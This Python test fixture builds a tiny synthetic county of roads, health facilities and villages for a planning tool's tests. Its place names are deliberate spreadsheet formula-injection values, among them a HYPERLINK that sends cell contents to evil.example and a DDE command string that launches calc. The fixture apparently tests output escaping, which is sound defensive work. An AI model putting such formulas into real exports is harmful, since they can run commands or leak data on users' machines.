"""A tiny county (a 6 x 6 km road grid, twelve villages, five facilities) whose full run takes seconds:
the kill and concurrency tests run it many times. Its names are hostile: formulas a spreadsheet would
run, console markup and emoji codes."""
from __future__ import annotations

import itertools
from pathlib import Path

import geopandas as gpd
import shapely

LON0, LAT0 = 111.5, 38.9
KM_LON, KM_LAT = 1 / 86.6, 1 / 111.0  # degrees per km near 39°N
HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|'/c calc'!A0", "+1+1", "-2+3",
                 "@SUM(A1:A9)", "\t=1+1", "[bold]x[/]:castle:")
"""Village names 0..6; the others are plain."""
WEST = "=西乡"
"""A township name that is a formula."""


def _pt(x_km: float, y_km: float) -> shapely.Point:
    return shapely.Point(LON0 + x_km * KM_LON, LAT0 + y_km * KM_LAT)


def _box(x0: float, x1: float) -> shapely.Polygon:
    return shapely.Polygon([_pt(x0, -0.5).coords[0], _pt(x1, -0.5).coords[0], _pt(x1, 6.5).coords[0],
                            _pt(x0, 6.5).coords[0]])


def write_tiny(folder: Path, *, population_factor: int = 1, counties: bool = False,
               extra_fid: str | None = None) -> Path:
    """Write the tiny project's layers and project.yml into `folder`; return the project file.

    `counties`: a boundaries layer of two counties (west and east halves), for partitioned runs.
    `extra_fid`: one more township health centre with this fid (e.g. OPT1, the id optimize generates)."""
    folder.mkdir(parents=True, exist_ok=True)
    lines, classes = [], []
    ticks = range(0, 7)
    for y in ticks:
        for a, b in itertools.pairwise(ticks):
            lines.append(shapely.LineString([_pt(a, y), _pt(b, y)]))
            classes.append("secondary" if y == 3 else "tertiary")
    for x in ticks:
        for a, b in itertools.pairwise(ticks):
            lines.append(shapely.LineString([_pt(x, a), _pt(x, b)]))
            classes.append("unclassified")
    gpd.GeoDataFrame({"highway": classes}, geometry=lines, crs="EPSG:4326").to_file(folder / "roads.geojson")
    facilities = [("H1", "县人民医院", "county_hospital", 3.0, 3.1, 2), ("T1", "东镇卫生院", "township_hc", 5.2, 1.1, 1),
                  ("T2", "=1+2", "township_hc", 0.9, 4.8, 0), ("C1", "河村卫生室", "village_clinic", 2.1, 0.9, 0),
                  ("E1", "急救中心", "ems_centre", 3.2, 2.9, 3)]
    if extra_fid is not None:
        facilities.append((extra_fid, "北镇卫生院", "township_hc", 4.6, 5.6, 0))
    gpd.GeoDataFrame(
        [{"fid": f, "name": n, "kind": k, "beds": 20, "doctors": 5, "nurses": 5, "ambulances": a,
          "township": "东镇" if x > 3 else WEST} for f, n, k, x, _, a in facilities],
        geometry=[_pt(x, y) for *_, x, y, _ in facilities], crs="EPSG:4326").to_file(folder / "facilities.geojson")
    villages = [(0.3 + (i % 4) * 1.7, 0.4 + (i // 4) * 2.1) for i in range(12)]
    names = [*HOSTILE_NAMES, *(f"{i}号村" for i in range(len(HOSTILE_NAMES), 12))]
    gpd.GeoDataFrame(
        [{"vid": f"V{i:02d}", "name": names[i], "population": (300 + 40 * i) * population_factor,
          "township": "东镇" if x > 3 else WEST, "setting": "rural"} for i, (x, _) in enumerate(villages)],
        geometry=[_pt(x, y) for x, y in villages], crs="EPSG:4326").to_file(folder / "villages.geojson")
    layers = "  roads: roads.geojson\n  facilities: facilities.geojson\n  villages: villages.geojson\n"
    if counties:
        gpd.GeoDataFrame({"name": ["西县", "东县"], "level": ["county", "county"]},
                         geometry=[_box(-0.5, 3.0), _box(3.0, 6.5)], crs="EPSG:4326").to_file(folder / "counties.geojson")
        layers += "  boundaries: counties.geojson\n"
    project = folder / "project.yml"
    project.write_text(f"name: 小县\ncrs: EPSG:4546\nlayers:\n{layers}parameters: {{}}\n", encoding="utf-8")
    (folder / "west.yml").write_text("name: -west\ntitle: '=HYPERLINK(\"http://evil.example\")'\nbase: project.yml\n"
                                     "changes:\n  - upgrade: {fid: T2, kind: subcentre}\n", encoding="utf-8")
    return project
